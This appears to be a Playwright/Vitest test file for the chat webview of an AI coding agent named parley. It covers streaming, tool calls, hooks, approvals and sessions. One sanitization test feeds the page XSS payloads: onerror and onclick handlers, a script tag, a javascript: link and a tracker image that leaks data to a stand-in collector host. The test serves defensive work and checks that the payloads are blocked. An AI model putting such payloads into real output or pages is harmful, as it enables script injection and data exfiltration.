// The chat page in headless Chromium, fed the recorded event streams.
// Skipped when /usr/bin/chromium is missing, unless CI=true.

import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import type { ToView } from '../../src/webview/messages';
import { compactFixture, sessionsFixture, turnFixture } from '../fixtures';
import { type ChatPage, type PageServer, hasChromium, launch, mustRunChromium, openChat, startPageServer, typedTurn } from './harness';

const run = hasChromium || mustRunChromium;

describe.skipIf(!run)('chat page in Chromium', () => {
  let server: PageServer;
  let browser: Browser;
  let chat: ChatPage;

  beforeAll(async () => {
    server = await startPageServer();
    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });
  beforeEach(async () => {
    chat = await openChat(browser, server.origin);
    return async () => {
      expect(chat.problems).toEqual([]); // no script errors, no CSP violations
      await chat.page.context().close();
    };
  });

  it('loads under its CSP, says ready and shows the empty state', async () => {
    const { page } = chat;
    expect(await chat.posted()).toEqual([{ type: 'ready' }]);
    await expect(page.locator('#empty').isVisible()).resolves.toBe(true);
    await expect(page.locator('#title').textContent()).resolves.toBe('New session');
    await expect(page.locator('#send').isVisible()).resolves.toBe(true);
    await expect(page.locator('#stop').isVisible()).resolves.toBe(false);
  });

  it('renders a streamed markdown answer, thinking collapsed, usage at the end', async () => {
    const f = turnFixture('text-answer');
    const { page } = chat;
    await chat.feed([
      { type: 'context', context: { label: 'cart/cart.go:10-17', uri: f.request.params.context!.uri }, include: true },
      ...typedTurn(f, { context: { type: 'userMessage', text: f.request.params.message, context: { label: 'cart/cart.go:10-17', uri: f.request.params.context!.uri } } }),
    ]);
    await expect(page.locator('#empty').isVisible()).resolves.toBe(false);
    await expect(page.locator('.user-text').textContent()).resolves.toBe('Why does Total add the fee?');
    await expect(page.locator('.user-context').textContent()).resolves.toBe('cart/cart.go:10-17');
    const md = page.locator('.md');
    await expect(md.locator('strong').textContent()).resolves.toBe('delivery fee');
    await expect(md.locator('ol > li').count()).resolves.toBe(2);
    await expect(md.locator('pre code.language-go').textContent()).resolves.toContain('sum += it.Price * it.Qty');
    await expect(md.locator('a').getAttribute('href')).resolves.toBe('https://go.dev/ref/spec#For_statements');
    const thinking = page.locator('details.thinking');
    await expect(thinking.getAttribute('open')).resolves.toBeNull();
    await expect(thinking.locator('.thinking-body').textContent()).resolves.toContain('per order');
    await expect(page.locator('.turn-meta .usage').textContent()).resolves.toBe('1,830 in · 164 out');
    await expect(page.locator('.turn-meta .stop').count()).resolves.toBe(0); // end_turn says nothing
    await expect(page.locator('.working').count()).resolves.toBe(0);
    await expect(page.locator('body').getAttribute('data-running')).resolves.toBe('false');

    await chat.clearPosted();
    await md.locator('a').click();
    expect(await chat.posted()).toEqual([{ type: 'openLink', href: 'https://go.dev/ref/spec#For_statements' }]);
  });

  it('shows the text as it streams', async () => {
    const f = turnFixture('text-answer');
    const { page } = chat;
    await chat.feed(typedTurn(f, { upTo: 3 }));
    const partial = await page.locator('.md').textContent();
    expect(partial).toContain('delivery fee');
    expect(partial).not.toContain('Qty');
    await expect(page.locator('.working').isVisible()).resolves.toBe(true);
    await chat.feed(f.events.slice(3).map((event) => ({ type: 'event' as const, event })));
    await expect(page.locator('.md').textContent()).resolves.toContain('Qty');
  });

  it('shows tool calls compactly, results on demand, and edits with file links', async () => {
    const f = turnFixture('tool-edit');
    const { page } = chat;
    await chat.feed(typedTurn(f));
    const tools = page.locator('details.tool');
    await expect(tools.count()).resolves.toBe(2);
    await expect(tools.locator('.tool-name').allTextContents()).resolves.toEqual(['read_file', 'edit_file']);
    await expect(tools.locator('.tool-arg').allTextContents()).resolves.toEqual(['cart/cart.go', 'cart/cart.go']);
    await expect(page.locator('details.tool.tool-ok').count()).resolves.toBe(2);
    // Collapsed: the result is not shown until the summary is clicked.
    const read = tools.first();
    await expect(read.locator('pre.tool-result').isVisible()).resolves.toBe(false);
    await read.locator('summary').click();
    await expect(read.locator('pre.tool-result').isVisible()).resolves.toBe(true);
    await expect(read.locator('pre.tool-result').textContent()).resolves.toContain('func Total');
    await expect(read.locator('pre.tool-input').textContent()).resolves.toContain('"path": "cart/cart.go"');

    const edit = page.locator('.edit .change');
    await expect(edit.textContent()).resolves.toBe('Edited cart/cart.go');
    await chat.clearPosted();
    await edit.locator('a.file').click();
    expect(await chat.posted()).toEqual([{ type: 'openFile', uri: 'file:///home/dev/shop/cart/cart.go' }]);
    await expect(page.locator('.turn-meta .usage').textContent()).resolves.toBe('7,600 in · 250 out · 4,200 cached');
  });

  it('keeps an opened tool call open while the turn streams on', async () => {
    const f = turnFixture('tool-edit');
    const { page } = chat;
    await chat.feed(typedTurn(f, { upTo: 6 })); // read_file and its result
    await page.locator('details.tool summary').first().click();
    await chat.feed(f.events.slice(6).map((event) => ({ type: 'event' as const, event })));
    await expect(page.locator('details.tool').first().getAttribute('open')).resolves.toBe('');
  });

  it('Stop posts stop while a turn runs; the cancelled turn says Stopped', async () => {
    const f = turnFixture('cancelled');
    const { page } = chat;
    const toolCall = f.events.findIndex((e) => e.kind === 'toolCall');
    await chat.feed(typedTurn(f, { upTo: toolCall + 1 }));
    await expect(page.locator('#stop').isVisible()).resolves.toBe(true);
    await expect(page.locator('#send').isVisible()).resolves.toBe(false);
    await expect(page.locator('details.tool.tool-running .tool-arg').textContent()).resolves.toBe('sleep 30 && go test ./...');
    await expect(page.locator('.working').textContent()).resolves.toBe('Working…');

    await chat.clearPosted();
    await page.locator('#stop').click();
    expect(await chat.posted()).toEqual([{ type: 'stop' }]);

    await chat.feed([
      ...f.events.slice(toolCall + 1).map((event) => ({ type: 'event' as const, event })),
      { type: 'turnEnd', result: f.result!, cancelled: true },
    ]);
    await expect(page.locator('.turn-meta .stop-cancelled').textContent()).resolves.toBe('Stopped');
    await expect(page.locator('details.tool.tool-error').count()).resolves.toBe(1);
    await expect(page.locator('#stop').isVisible()).resolves.toBe(false);
    await expect(page.locator('#send').isVisible()).resolves.toBe(true);
    await expect(page.locator('.working').count()).resolves.toBe(0);
  });

  it('Escape in the input stops a running turn', async () => {
    await chat.feed(typedTurn(turnFixture('cancelled'), { upTo: 2 }));
    await chat.clearPosted();
    await chat.page.locator('#input').press('Escape');
    expect(await chat.posted()).toEqual([{ type: 'stop' }]);
  });

  it('shows an error turn', async () => {
    const { page } = chat;
    await chat.feed(typedTurn(turnFixture('error')));
    await expect(page.locator('.turn-error').textContent()).resolves.toContain('HTTP 400 invalid_request_error');
    await expect(page.locator('.turn-meta .stop-error').textContent()).resolves.toBe('Failed');
  });

  it('shows each hook that did not end ok; a refused one says how to approve; a turn a hook ended says why', async () => {
    const { page } = chat;
    const hook = (event: string, command: string, outcome: string, message?: string): ToView => ({
      type: 'event',
      event: { session: 's', turn: 1, kind: 'hook', text: `hook ${event} \`${command}\`: ${outcome}`, hook: { event, command, source: 'config.json', outcome, exitCode: outcome === 'blocked' ? 2 : 0, message, durationMs: 4 } },
    });
    await chat.feed([
      { type: 'userMessage', text: 'run the tests' },
      { type: 'turnStart' },
      hook('UserPromptSubmit', 'true', 'ok'),
      hook('PreToolUse', './check.sh', 'refused'),
      hook('PostToolUse', 'sleep 99', 'timeout', 'killed after its 1s timeout'),
      hook('Stop', 'exit 2', 'blocked', 'tests fail: fix them first'),
      { type: 'event', event: { session: 's', turn: 1, kind: 'done', stopReason: 'hook', usage: { inputTokens: 10, outputTokens: 2 } } },
    ]);
    const hooks = page.locator('.hook');
    await expect(hooks.count()).resolves.toBe(3); // the ok run is not shown
    await expect(page.locator('.hook-refused .hook-title').textContent()).resolves.toBe('PreToolUse hook not run: workspace hooks are not approved');
    await expect(page.locator('.hook-refused .hook-command').textContent()).resolves.toBe('./check.sh');
    await expect(page.locator('.hook-refused .hook-hint').textContent()).resolves.toContain('parley hooks approve');
    await expect(page.locator('.hook-timeout .hook-message').textContent()).resolves.toBe('killed after its 1s timeout');
    await expect(page.locator('.hook-blocked .hook-hint').count()).resolves.toBe(0);
    await expect(page.locator('.turn-meta .stop-hook').textContent()).resolves.toBe('Stopped by a hook (Stop): tests fail: fix them first');
    // The refused entry stands out from the others.
    const bg = (sel: string) => page.locator(sel).evaluate((el) => getComputedStyle(el).backgroundColor);
    expect(await bg('.hook-refused')).not.toBe(await bg('.hook-timeout'));
  });

  it('shows an MCP server that failed before any turn and its restart during one', async () => {
    const { page } = chat;
    const mcp = (state: string, error?: string): ToView => ({
      type: 'event',
      event: { session: '', turn: 0, kind: 'mcp', text: `MCP server gh ${state}`, mcp: { server: 'gh', state, error, retrySeconds: state === 'failed' ? 15 : undefined } },
    });
    await chat.feed([
      mcp('failed', 'exec: "gh-mcp": executable file not found in $PATH'),
      { type: 'userMessage', text: 'list the issues' },
      { type: 'turnStart' },
      mcp('restarting'),
      mcp('restarted'),
      { type: 'event', event: { session: 's', turn: 1, kind: 'done', stopReason: 'end_turn', usage: { inputTokens: 10, outputTokens: 2 } } },
    ]);
    await expect(page.locator('.mcp').count()).resolves.toBe(3);
    await expect(page.locator('.mcp-failed .mcp-title').textContent()).resolves.toBe('MCP server gh failed to start; tried again at a turn after 15 s');
    await expect(page.locator('.mcp-failed .mcp-message').textContent()).resolves.toContain('executable file not found');
    await expect(page.locator('.mcp-failed').getAttribute('role')).resolves.toBe('alert');
    await expect(page.locator('.mcp-restarted .mcp-title').textContent()).resolves.toBe('MCP server gh restarted');
    // Trouble stands out from recovery.
    const border = (sel: string) => page.locator(sel).evaluate((el) => getComputedStyle(el).borderLeftColor);
    expect(await border('.mcp-failed')).not.toBe(await border('.mcp-restarted'));
  });

  it('sanitizes model output: no raw HTML, no script URLs, no remote images', async () => {
    const { page } = chat;
    const evil =
      'Hi <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>\n\n' +
      '[click](javascript:window.__pwned=3) ![tracker](https://collector.example/leak?data=secret)\n\n' +
      '<a href="https://evil.example" onclick="window.__pwned=4">raw</a>';
    await chat.feed([
      { type: 'userMessage', text: 'x' },
      { type: 'turnStart' },
      { type: 'event', event: { session: 's', turn: 1, kind: 'text', text: evil } },
      { type: 'event', event: { session: 's', turn: 1, kind: 'done', stopReason: 'end_turn' } },
    ]);
    const md = page.locator('.md');
    await expect(md.locator('img, script, [onerror], [onclick]').count()).resolves.toBe(0);
    const hrefs = await md.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    expect(hrefs.some((h) => h?.startsWith('javascript:'))).toBe(false);
    await expect(md.textContent()).resolves.toContain('<script>'); // shown as text
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  });

  it('sends on Enter with the context choice; Shift+Enter adds a line', async () => {
    const { page } = chat;
    await chat.feed([{ type: 'context', context: { label: 'cart/cart.go:10-17', uri: 'file:///home/dev/shop/cart/cart.go', diagnostics: 2 }, include: true }]);
    await expect(page.locator('#context-label').textContent()).resolves.toBe('cart/cart.go:10-17 · 2 diagnostics');
    await chat.clearPosted();
    const input = page.locator('#input');
    await input.fill('Why does Total');
    await input.press('Shift+Enter');
    await input.pressSequentially('add the fee?');
    expect(await chat.posted()).toEqual([]);
    await input.press('Enter');
    expect(await chat.posted()).toEqual([{ type: 'send', text: 'Why does Total\nadd the fee?', includeContext: true }]);
    await expect(input.inputValue()).resolves.toBe('');

    await chat.clearPosted();
    await page.locator('#include-context').uncheck();
    await input.fill('without context');
    await page.locator('#send').click();
    expect(await chat.posted()).toEqual([
      { type: 'includeContext', include: false },
      { type: 'send', text: 'without context', includeContext: false },
    ]);
  });

  it('offers the prompt commands when a message starts with "/"; Tab or Enter takes one', async () => {
    const { page } = chat;
    await chat.clearPosted();
    const input = page.locator('#input');
    await input.pressSequentially('/');
    expect(await chat.posted()).toEqual([{ type: 'listPromptCommands' }]);
    await chat.feed([
      {
        type: 'promptCommands',
        commands: [
          { name: 'explain', description: 'Explain a file', argumentHint: 'FILE', source: 'user' },
          { name: 'review', description: 'Review a change', argumentHint: '[focus]', source: 'workspace' },
        ],
      },
    ]);
    const menu = page.locator('#prompt-menu');
    await expect(menu.isVisible()).resolves.toBe(true);
    await expect(page.locator('.prompt-item').allTextContents()).resolves.toEqual(['/explainFILEExplain a file', '/review[focus]Review a change']);
    await input.pressSequentially('r');
    await expect(page.locator('.prompt-item').count()).resolves.toBe(1);
    await input.press('Backspace');
    await input.press('ArrowDown');
    await input.press('Enter');
    await expect(input.inputValue()).resolves.toBe('/review ');
    await expect(menu.isVisible()).resolves.toBe(false);
    await input.pressSequentially('error handling');
    await chat.clearPosted();
    await input.press('Enter');
    expect(await chat.posted()).toEqual([{ type: 'send', text: '/review error handling', includeContext: true }]);
    // Escape closes the menu without sending.
    await input.pressSequentially('/');
    await chat.feed([{ type: 'promptCommands', commands: [{ name: 'explain', description: 'Explain a file', source: 'user' }] }]);
    await input.press('Escape');
    await expect(menu.isVisible()).resolves.toBe(false);
  });

  it('offers @-mentions as the user types: the latest query only, the pick inserted and sent with the message', async () => {
    const { page } = chat;
    await chat.clearPosted();
    const input = page.locator('#input');
    await input.pressSequentially('explain @ca');
    await page.waitForFunction(() =>
      (window as unknown as { __posted: { type: string; query?: string }[] }).__posted.some((m) => m.type === 'mentionQuery' && m.query === 'ca'),
    );
    const queries = (await chat.posted()).filter((m) => m.type === 'mentionQuery');
    const last = queries[queries.length - 1] as { id: number; query: string };
    expect(last.query).toBe('ca');
    const items = [
      { label: 'cart/cart.go', detail: 'file', mention: { kind: 'file', text: '@cart/cart.go', path: 'cart/cart.go' } },
      { label: 'cart/fee.go', detail: 'file', mention: { kind: 'file', text: '@cart/fee.go', path: 'cart/fee.go' } },
    ];
    const menu = page.locator('#mention-menu');
    await chat.feed([{ type: 'mentionCandidates', id: last.id + 1, items: [items[0]] }]); // not the query asked last
    await expect(menu.isVisible()).resolves.toBe(false);
    await chat.feed([{ type: 'mentionCandidates', id: last.id, items }]);
    await expect(menu.isVisible()).resolves.toBe(true);
    await expect(page.locator('.mention-item').allTextContents()).resolves.toEqual(['cart/cart.gofile', 'cart/fee.gofile']);
    await input.press('ArrowDown');
    await input.press('Enter');
    await expect(input.inputValue()).resolves.toBe('explain @cart/fee.go ');
    await expect(menu.isVisible()).resolves.toBe(false);
    await input.pressSequentially('please');
    await chat.clearPosted();
    await input.press('Enter');
    expect(await chat.posted()).toEqual([{ type: 'send', text: 'explain @cart/fee.go please', includeContext: true, mentions: [items[1].mention] }]);
    // Escape closes the menu; a pick the user then deleted is not sent.
    await input.pressSequentially('@d');
    await page.waitForFunction(() =>
      (window as unknown as { __posted: { type: string; query?: string }[] }).__posted.some((m) => m.type === 'mentionQuery' && m.query === 'd'),
    );
    const q2 = (await chat.posted()).filter((m) => m.type === 'mentionQuery').pop() as { id: number };
    await chat.feed([{ type: 'mentionCandidates', id: q2.id, items: [{ label: '@diagnostics', mention: { kind: 'diagnostics', text: '@diagnostics', scope: 'file' } }] }]);
    await input.press('Tab');
    await expect(input.inputValue()).resolves.toBe('@diagnostics ');
    await input.fill('never mind');
    await chat.clearPosted();
    await input.press('Enter');
    expect(await chat.posted()).toEqual([{ type: 'send', text: 'never mind', includeContext: true }]);
  });

  it('shows the mentions event as chips above the user message, an error in red', async () => {
    const { page } = chat;
    await chat.feed([
      { type: 'userMessage', text: 'explain @cart/fee.go with @url:https://x.invalid' },
      { type: 'turnStart' },
      {
        type: 'event',
        event: {
          session: 's1',
          turn: 1,
          kind: 'mentions',
          mentions: [
            { kind: 'file', text: '@cart/fee.go', label: 'cart/fee.go', tokens: 1234 },
            { kind: 'url', text: '@url:https://x.invalid', label: 'https://x.invalid', tokens: 0, error: 'fetch failed' },
          ],
        },
      },
    ]);
    const chips = page.locator('.turn .user > .mentions > .mention-chip');
    await expect(chips.allTextContents()).resolves.toEqual(['cart/fee.go · 1,234 tokens', 'https://x.invalid · fetch failed']);
    await expect(page.locator('.mention-chip.mention-error').count()).resolves.toBe(1);
    const color = await page.locator('.mention-chip.mention-error').evaluate((el) => getComputedStyle(el).color);
    const plain = await page.locator('.mention-chip:not(.mention-error)').evaluate((el) => getComputedStyle(el).color);
    expect(color).not.toBe(plain);
  });

  it('a pinned selection can be removed', async () => {
    const { page } = chat;
    await chat.feed([{ type: 'context', context: { label: 'a.go:1-3', uri: 'file:///a.go', pinned: true }, include: true }]);
    await chat.clearPosted();
    await page.locator('#unpin').click();
    expect(await chat.posted()).toEqual([{ type: 'unpinContext' }]);
  });

  it('lists, opens and deletes sessions; shows a loaded history', async () => {
    const f = sessionsFixture();
    const { page } = chat;
    await chat.clearPosted();
    await page.locator('#history').click();
    expect(await chat.posted()).toEqual([{ type: 'listSessions' }]);
    await chat.feed([{ type: 'sessions', sessions: f.sessions.sessions }]);
    const items = page.locator('#sessions li.session');
    await expect(items.count()).resolves.toBe(3);
    await expect(items.locator('.session-title').allTextContents()).resolves.toEqual(['Add tests for Total', 'Run the tests', 'Why does Total add the fee?']);
    await expect(items.nth(2).locator('.session-meta').textContent()).resolves.toContain('2 turns');

    await chat.clearPosted();
    await items.nth(2).locator('.session-delete').click();
    await items.nth(2).locator('.session-open').click();
    expect(await chat.posted()).toEqual([
      { type: 'deleteSession', id: f.history.id },
      { type: 'openSession', id: f.history.id },
    ]);
    await chat.feed([{ type: 'reset' }, { type: 'history', session: f.history }, { type: 'sessions', sessions: f.sessions.sessions, current: f.history.id }]);
    await expect(page.locator('#sessions').isVisible()).resolves.toBe(false);
    await expect(page.locator('#title').textContent()).resolves.toBe('Why does Total add the fee?');
    await expect(page.locator('article.turn').count()).resolves.toBe(2);
    await expect(page.locator('.user-context').first().textContent()).resolves.toBe('shop/cart/cart.go:10-17');
    await expect(page.locator('details.tool .tool-name').allTextContents()).resolves.toEqual(['read_file', 'edit_file']);

    await chat.clearPosted();
    await page.locator('#new').click();
    expect(await chat.posted()).toEqual([{ type: 'newSession' }]);
  });

  it('compact: the button posts compact; the compaction is one muted line, the reason on demand', async () => {
    const f = compactFixture();
    const { page } = chat;
    await expect(page.locator('#compact').isDisabled()).resolves.toBe(true); // no session yet
    await chat.feed([...typedTurn(turnFixture('text-answer')), ...typedTurn(turnFixture('tool-edit'))]);
    await expect(page.locator('#compact').isDisabled()).resolves.toBe(false);
    await chat.clearPosted();
    await page.locator('#compact').click();
    expect(await chat.posted()).toEqual([{ type: 'compact' }]);

    await chat.feed([{ type: 'compactStart' }]);
    await expect(page.locator('#compacting').textContent()).resolves.toBe('Compacting the conversation…');
    await expect(page.locator('#compact').isDisabled()).resolves.toBe(true);
    await expect(page.locator('#send').isDisabled()).resolves.toBe(true);
    await chat.feed([...f.events.map((event) => ({ type: 'event' as const, event })), { type: 'compactEnd' }]);
    await expect(page.locator('#compacting').count()).resolves.toBe(0);
    await expect(page.locator('#send').isDisabled()).resolves.toBe(false);

    const entry = page.locator('article.turn.between details.compaction');
    await expect(entry.count()).resolves.toBe(1);
    // After the two turns, not inside the second.
    await expect(page.locator('article.turn').last().locator('details.compaction').count()).resolves.toBe(1);
    await expect(entry.locator('.compaction-title').textContent()).resolves.toBe('Compacted 5,318 → 5,056 tokens');
    await expect(entry.locator('.compaction-detail').textContent()).resolves.toBe('1 tool result masked, 7 messages summarised');
    await expect(entry.locator('.compaction-reason').isVisible()).resolves.toBe(false);
    await entry.locator('summary').click();
    await expect(entry.locator('.compaction-reason').textContent()).resolves.toBe('Why: compacted on request (focus: the Qty fix).');
  });

  it('a loaded compacted session shows the compaction with its summary', async () => {
    const f = compactFixture();
    const { page } = chat;
    await chat.feed([{ type: 'reset' }, { type: 'history', session: f.history }]);
    await expect(page.locator('article.turn').count()).resolves.toBe(2);
    const entry = page.locator('article.turn.between details.compaction');
    await entry.locator('summary').click();
    const summary = entry.locator('.compaction-summary');
    await expect(summary.textContent()).resolves.toContain('multiply each price by Qty');
    await expect(summary.locator('h2').allTextContents()).resolves.toContain('Files changed');
    await expect(page.locator('.user-text').count()).resolves.toBe(0); // the summary is not shown as the user's words
  });

  it('a notice outside a turn is shown and can be dismissed', async () => {
    const { page } = chat;
    await chat.feed([{ type: 'compactEnd', notice: 'Nothing to compact yet: the conversation is too short.' }]);
    await expect(page.locator('#notice-text').textContent()).resolves.toBe('Nothing to compact yet: the conversation is too short.');
    await page.locator('#notice-close').click();
    await page.locator('#notice').waitFor({ state: 'hidden' }); // drawn on the next frame
  });

  it('asks an approval and posts the answer', async () => {
    const a = turnFixture('cancelled').approvals![0].request;
    const { page } = chat;
    await chat.feed([{ type: 'approval', id: 7, message: a.message, actions: a.actions.map((x) => x.title) }]);
    const card = page.locator('.approval');
    await expect(card.locator('.approval-message').textContent()).resolves.toBe('parley wants to run: sleep 30 && go test ./...');
    await expect(card.locator('button').allTextContents()).resolves.toEqual(['Allow once', 'Allow for this session', 'Deny']);
    await chat.clearPosted();
    await card.locator('button', { hasText: 'Allow once' }).click();
    expect(await chat.posted()).toEqual([{ type: 'approve', id: 7, answer: 'Allow once' }]);
    // Drawn on the next frame: wait for it rather than race it.
    await page.locator('.approval').waitFor({ state: 'detached' });
  });

  it('says when the server is not running and offers a restart', async () => {
    const { page } = chat;
    await chat.feed([{ type: 'server', state: 'stopped', message: 'spawn parley ENOENT' }]);
    await expect(page.locator('#server-text').textContent()).resolves.toBe('The parley server is not running: spawn parley ENOENT.');
    await expect(page.locator('#send').isDisabled()).resolves.toBe(true);
    await chat.clearPosted();
    await page.locator('#restart').click();
    expect(await chat.posted()).toEqual([{ type: 'restartServer' }]);
  });
});

if (!run) {
  describe('chat page in Chromium', () => {
    it.skip(`skipped: no Chromium at ${process.env.CHROMIUM_PATH ?? '/usr/bin/chromium'} (apt-get install chromium; CI=true makes this fail)`, () => undefined);
  });
}
